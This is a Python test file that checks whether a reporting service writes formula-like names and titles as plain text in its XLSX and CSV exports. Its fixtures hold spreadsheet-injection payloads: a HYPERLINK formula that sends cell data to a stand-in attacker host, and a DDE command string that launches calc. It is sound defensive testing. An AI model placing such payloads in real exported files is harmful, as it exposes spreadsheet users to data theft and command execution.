"""A name that looks like a formula stays text in every CSV and XLSX the reporting service
produces (issue #15, item 6: a verified NGO renamed itself `=HYPERLINK(...)`)."""

from __future__ import annotations

import csv
import io
import zipfile

from openpyxl import load_workbook
from reporting_factory import awarded, competition, offer, organization

from reporting import opendata, projections, report, stats

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Kliknij")'


def store_with_an_evil_name() -> projections.MemoryStore:
    store = projections.MemoryStore()
    for e in (
        organization("registered", "org-x", "2026-01-10T09:00:00Z", "pending", name=EVIL),
        organization("verified", "org-x", "2026-01-12T09:00:00Z", "verified", name=EVIL,
                     changed_at="2026-01-12T09:00:00Z"),
        competition("announced", "comp-x", "2026-01-15T10:00:00Z", title="@SUM(1+1)"),
        offer("submitted", "off-x", "comp-x", "org-x", "2026-02-01T10:00:00Z",
              title="-2+3+cmd|' /C calc'!A0"),
        awarded("off-x", "comp-x", "org-x", "2026-03-20T10:00:00Z", "1000.00"),
        competition("resolved", "comp-x", "2026-03-20T10:00:02Z", title="@SUM(1+1)"),
    ):
        projections.apply(e, store)
    return store


def test_the_xlsx_report_writes_formula_like_names_as_text():
    built = report.build(store_with_an_evil_name(), 2026)
    content = report.to_xlsx(built)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"<f>" in xml or b"<f " in xml for xml in sheets)  # no formula at all
    rows = list(load_workbook(io.BytesIO(content))["Dotacje"].iter_rows(min_row=2))
    names = {row[0].value: row[0].data_type for row in rows}
    assert names == {EVIL: "s"}
    assert rows[0][3].value == "-2+3+cmd|' /C calc'!A0" and rows[0][3].data_type == "s"
    assert isinstance(rows[0][6].value, (int, float))  # money stays a number


def test_open_data_csv_neutralises_cells_that_start_a_formula():
    data = stats.Data(store_with_an_evil_name())
    for name, column, expected in (("organizations", "name", "'" + EVIL),
                                   ("results", "organization_name", "'" + EVIL),
                                   ("results", "title", "'-2+3+cmd|' /C calc'!A0"),
                                   ("competitions", "title", "'@SUM(1+1)")):
        dataset = opendata.DATASETS[name]
        text = opendata.to_csv(dataset, opendata.rows(dataset, data))
        found = [row[column] for row in csv.DictReader(io.StringIO(text))]
        assert found == [expected], name
    # the JSON keeps the name as it is: it is data, not a spreadsheet
    results = opendata.rows(opendata.DATASETS["results"], data)
    assert results[0]["organization_name"] == EVIL
    assert results[0]["awarded_amount"] == "1000.00"
